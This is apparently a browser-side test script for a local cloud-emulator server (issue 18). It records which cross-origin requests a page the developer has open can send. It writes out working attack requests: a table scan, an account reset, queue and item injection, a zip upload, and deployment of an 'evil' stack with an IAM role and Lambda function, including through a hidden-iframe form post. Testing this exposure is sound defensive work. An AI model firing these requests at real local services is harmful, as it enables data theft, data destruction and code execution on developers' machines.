// What a page the developer has open could try against the local server (issue 18).
// The page defines CONFIG = {endpoint, queue, table, function, bucket} first; each
// attempt's outcome lands in window.outcomes: "read <status>: <body>", "sent" (a no-cors
// request whose answer the page cannot see) or "blocked: <error>".
const {endpoint: S, queue: Q, table: T, function: F, bucket: B} = CONFIG;
const outcomes = {};
async function attempt(name, run) {
  try { outcomes[name] = await run(); } catch (e) { outcomes[name] = "blocked: " + e.name; }
}
async function read(response) {
  return "read " + response.status + ": " + (await response.text()).slice(0, 300);
}
const form = {"Content-Type": "application/x-www-form-urlencoded"};
const evilTemplate = JSON.stringify({
  "Transform": "AWS::Serverless-2016-10-31",
  "Resources": {
    "EvilRole": {"Type": "AWS::IAM::Role", "Properties": {"AssumeRolePolicyDocument": {
      "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
      "Principal": {"Service": "lambda.amazonaws.com"}}]}}},
    "Evil": {"Type": "AWS::Serverless::Function", "Properties": {
      "Handler": "app.handler", "Runtime": "python3.13", "CodeUri": "s3://BUCKET/evil.zip",
      "Role": {"Fn::GetAtt": ["EvilRole", "Arn"]}}}}}).replace("BUCKET", B);

await attempt("scan the orders table", async () => read(await fetch(S + "/", {method: "POST",
  headers: {"X-Amz-Target": "DynamoDB_20120810.Scan", "Content-Type": "application/x-amz-json-1.0"},
  body: JSON.stringify({TableName: T})})));
await attempt("read the live view", async () => read(await fetch(S + "/_localcloud/state.json")));
await attempt("list queues", async () => read(await fetch(S + "/?Action=ListQueues")));
await attempt("create a bucket", async () => read(await fetch(S + "/evil-bucket", {method: "PUT"})));
await attempt("wipe the account", async () => {
  await fetch(S + "/moto-api/reset", {method: "POST", mode: "no-cors"}); return "sent"; });
await attempt("send an order", async () => {
  await fetch(S + "/", {method: "POST", mode: "no-cors", headers: form, body: "Action=SendMessage"
    + "&QueueUrl=" + encodeURIComponent(Q)
    + "&MessageBody=" + encodeURIComponent(JSON.stringify({id: "evil-order", quantity: 1}))});
  return "sent"; });
await attempt("put an item", async () => {
  await fetch(S + "/", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: JSON.stringify({TableName: T, Item: {id: {S: "evil-direct"}, quantity: {N: "1"}}})});
  return "sent"; });
await attempt("invoke the queue worker", async () => {
  await fetch(S + "/2015-03-31/functions/" + F + "/invocations", {method: "POST", mode: "no-cors",
    body: JSON.stringify({Records: []})}); return "sent"; });
await attempt("upload a zip", async () => {
  const data = new FormData(); data.append("key", "evil.zip"); data.append("file", new Blob(["PK"]));
  await fetch(S + "/" + B, {method: "POST", mode: "no-cors", body: data}); return "sent"; });
await attempt("create a change set", async () => {
  await fetch(S + "/", {method: "POST", mode: "no-cors", headers: form, body: "Action=CreateChangeSet"
    + "&StackName=evil&ChangeSetName=evil&ChangeSetType=CREATE&Capabilities.member.1=CAPABILITY_IAM"
    + "&TemplateBody=" + encodeURIComponent(evilTemplate)}); return "sent"; });
await attempt("execute it", async () => {
  await fetch(S + "/", {method: "POST", mode: "no-cors", headers: form,
    body: "Action=ExecuteChangeSet&StackName=evil&ChangeSetName=evil"}); return "sent"; });
await attempt("invoke its function", async () => {
  await fetch(S + "/2015-03-31/functions/evil-fn/invocations", {method: "POST", mode: "no-cors",
    body: "{}"}); return "sent"; });
await attempt("post a form into a frame", async () => {
  const frame = document.createElement("iframe"); frame.name = "sink"; document.body.append(frame);
  const f = document.createElement("form"); f.method = "POST"; f.action = S + "/"; f.target = "sink";
  for (const [k, v] of [["Action", "CreateStack"], ["StackName", "evil-form"],
                        ["TemplateBody", evilTemplate]]) {
    const i = document.createElement("input"); i.name = k; i.value = v; f.append(i); }
  document.body.append(f);
  const loaded = new Promise(done => frame.onload = done); f.submit(); await loaded;
  return "submitted"; });
window.outcomes = outcomes;
